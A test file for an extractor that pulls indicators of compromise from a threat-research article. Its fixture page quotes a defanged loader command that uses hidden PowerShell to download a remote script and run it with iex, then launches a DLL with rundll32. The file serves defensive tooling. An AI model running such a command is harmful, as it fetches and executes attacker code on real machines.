/**
 * Indicators through the whole core: only the article body counts (tables and <pre>/<code> blocks
 * included), the publisher's own links and domains never do, and the page furniture yields none.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { sharedPath } from '../../extractors/data-build/shared-dir.js';
import { extractEntities } from '../../extractors/entities/index.js';
import { siteOf } from '../../extractors/entities/indicators/checks.js';
import { extractArticle } from '../../src/extract-article.js';
import { extractSample, listSamples, readSampleHtml } from '../helpers/samples.js';

/** A vendor-blog page written for this test: IOCs in a table and a <pre> block, links all around. */
const PAGE = `<!doctype html><html lang="en"><head><title>Loader campaign hits logistics firms | ThreatDesk News</title>
<link rel="canonical" href="https://www.threatdesk-news.com/research/2024/06/loader-campaign-logistics">
<script src="https://cdn.threatdesk-news.com/js/app.js"></script></head><body>
<header><nav><a href="https://www.threatdesk-news.com/">Home</a> <a href="https://www.threatdesk-news.com/research">Research</a>
<a href="https://partner-webinars.com/register">Webinars at partner-webinars.com</a></nav></header>
<aside class="sidebar"><h3>Trending</h3><ul><li><a href="https://www.threatdesk-news.com/x">Botnet at 185.99.12.4 taken down</a></li>
<li>Sponsored: try cloudshield-offers.com free</li></ul></aside>
<main><article><h1>Loader campaign hits logistics firms</h1>
<p>Our research team tracked a loader campaign against freight and logistics companies through May. The lures were invoices
sent from billing[@]freight-docs[.]com, and each carried a shortcut file that pulled the next stage from a staging host.</p>
<p>The loader contacted hxxps://cargo-track-update[.]com/api/v2/check and fell back to 91.215.85[.]17 when the first host
was down. Subscribers can read the full timeline on threatdesk-news.com, and the raw data is at
https://www.threatdesk-news.com/ioc/loader-campaign.csv for members.</p>
<p>The table below lists what defenders should block; the hashes belong to the loader DLL and its shortcut lure.</p>
<table><tr><th>Type</th><th>Indicator</th></tr>
<tr><td>Domain</td><td>cargo-track-update[.]com</td></tr>
<tr><td>IP</td><td>91.215.85[.]17</td></tr>
<tr><td>SHA-256</td><td>3f2a9c7e51d04b8a6e19f0c2d7b3a85e4f61c09d2ab7e3485f1c6d90e2b74a13</td></tr></table>
<p>The shortcut ran this command, which we reproduce defanged:</p>
<pre><code>powershell -w hidden -c "iwr hxxp://45.142.212[.]61/l.ps1 | iex"
rundll32 C:\\Users\\Public\\fr8lib.dll,Start</code></pre>
<p>We thank the incident responders who shared samples with us for this report.</p>
</article></main>
<section class="comments"><p>Reader: I saw 77.91.68.3 in our logs too, is that related?</p></section>
<footer><p>© ThreatDesk News. Contact press@threatdesk-news.com. Follow us at twitter.com/threatdesk.</p>
<a href="https://mastodon-infosec.social/@threatdesk">Mastodon</a></footer></body></html>`;

describe('indicators on a whole page', () => {
  const record = extractArticle(PAGE, { url: 'https://threatdesk-news.com/research/2024/06/loader-campaign-logistics' });
  const got = record.entities.indicators.map((i) => [i.type, i.value]);

  it('keeps the body text, its table and its <pre> block', () => {
    expect(record.text).toContain('3f2a9c7e51d04b8a6e19f0c2d7b3a85e4f61c09d2ab7e3485f1c6d90e2b74a13');
    expect(record.text).toContain('hxxp://45.142.212[.]61/l.ps1');
  });

  it('finds exactly the indicators of the article body, refanged', () => {
    expect(got).toEqual([
      ['email', 'billing@freight-docs.com'],
      ['url', 'https://cargo-track-update.com/api/v2/check'],
      ['ipv4', '91.215.85.17'],
      ['domain', 'cargo-track-update.com'],
      ['sha256', '3f2a9c7e51d04b8a6e19f0c2d7b3a85e4f61c09d2ab7e3485f1c6d90e2b74a13'],
      ['url', 'http://45.142.212.61/l.ps1'],
      ['filename', 'fr8lib.dll'],
    ]);
    expect(record.entities.indicators.find((i) => i.value === '91.215.85.17')!.mentions).toHaveLength(2);
  });

  it('takes nothing from the publisher, the navigation, the sidebar, the comments or the footer', () => {
    const values = got.map(([, v]) => v!).join(' ');
    for (const never of ['threatdesk-news.com', 'partner-webinars.com', 'cloudshield-offers.com', '185.99.12.4', '77.91.68.3', 'twitter.com', 'mastodon-infosec.social']) {
      expect(values).not.toContain(never);
    }
  });
});

describe('indicators on the samples and the seed', () => {
  it.each(listSamples().map((s) => [s.name, s] as const))('%s: none from the publisher or the furniture', (_name, sample) => {
    const { record } = extractSample(sample);
    const html = readSampleHtml(sample);
    const own = new Set([record.url, record.canonicalUrl].filter(Boolean).map((u) => siteOf(new URL(u!).hostname)));
    // Every host the page links to or loads from: none of them appears in the body as an indicator.
    const linked = new Set([...html.matchAll(/(?:href|src|content)=["']https?:\/\/([^/"':]+)/gi)].map((m) => m[1]!.toLowerCase()));
    for (const ind of record.entities.indicators) {
      const host = /^(?:[a-z]+:\/\/)?([^/:@]+)(?:[:/]|$)/.exec(ind.value.split('@').at(-1)!)?.[1] ?? '';
      expect(own.has(siteOf(host)), `${ind.value} is the publisher's`).toBe(false);
      expect(linked.has(host), `${ind.value} is a link of the page`).toBe(false);
      for (const m of ind.mentions) expect(record.text.slice(m.start, m.end)).toBe(m.text);
    }
  });

  it('the seed article names no indicator', () => {
    const text = readFileSync(sharedPath('seeds', 'salt-typhoon-telecom-breach.txt'), 'utf8');
    expect(extractEntities(text, { ownUrls: ['https://www.techtarget.com/searchsecurity/news/366615/x'] }).entities.indicators).toEqual([]);
  });
});
